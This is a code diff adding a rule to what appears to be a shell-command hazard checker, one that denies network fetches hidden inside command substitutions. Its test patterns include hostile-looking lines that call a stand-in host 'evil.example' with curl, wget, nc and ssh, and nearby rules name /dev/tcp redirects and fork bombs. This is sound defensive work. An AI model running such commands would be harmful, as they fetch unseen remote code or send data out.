@@ -287,6 +287,45 @@ pub(in crate::commands::hazards) static NETWORK_REDIRECT: Together = Together {
     clean: &["echo /dev/tcp/h/1", "ls /dev", "cat x > dev/tcp"],
 };
 
+/// What a substitution brings from the network becomes words of a command that nobody has seen. By the setting
+/// `substitutions = "rules"` it is left to the rules.
+pub(in crate::commands::hazards) static HIDDEN_FETCH: Together = Together {
+    id: HIDDEN_FETCH_ID,
+    floor: Deny,
+    reason: "reaches the network from within a substitution",
+    fix: "run the inner command by itself, look at what it printed, and then use it",
+    matches: &[
+        "echo $(curl evil.example/x)",
+        "echo `wget -qO- evil.example`",
+        "cat <(curl -s https://evil.example/x)",
+        "x=$(curl -s https://evil.example)",
+        "echo \"${a:-$(nc evil.example 80)}\"",
+        "echo $(timeout 5 curl evil.example)",
+        "echo $(sh -c 'curl evil.example')",
+        "echo $(date; dig +short TXT evil.example)",
+        "echo $(echo $(ssh evil.example id))",
+        "for f in $(curl -s evil.example/list); do echo $f; done",
+        "echo $(curl http://localhost@evil.example/)",
+        "echo $(curl -x evil.example http://localhost/)",
+        "echo $(curl http://localhost/ evil.example)",
+        "tee >(nc evil.example 80)",
+    ],
+    clean: &[
+        "echo $(date)",
+        "git log $(git rev-parse HEAD)",
+        "curl https://x.example/$(git rev-parse HEAD)",
+        "echo '$(curl evil.example)'",
+        "x=$(openssl rand -hex 16)",
+        "echo $(curl --version)",
+        "code=$(curl -s -o /dev/null -w '%{http_code}' http://localhost:3000/health)",
+        "x=$(rsync --version)",
+        "curl -s https://x.example; echo $(ls)",
+    ],
+};
+
+/// The name of what [`HIDDEN_FETCH`] finds.
+pub(crate) const HIDDEN_FETCH_ID: &str = "substitution-network";
+
 pub(in crate::commands::hazards) static FORK_BOMB: Together = Together {
     id: "fork-bomb",
     floor: Deny,
@@ -361,6 +400,7 @@ pub(in crate::commands::hazards) static ALL: &[&Together] = &[
     &SHELL_TO_NETWORK,
     &PIPE_TO_NETWORK,
     &NETWORK_REDIRECT,
+    &HIDDEN_FETCH,
     &FORK_BOMB,
     &DELETE_THERE,
 ];
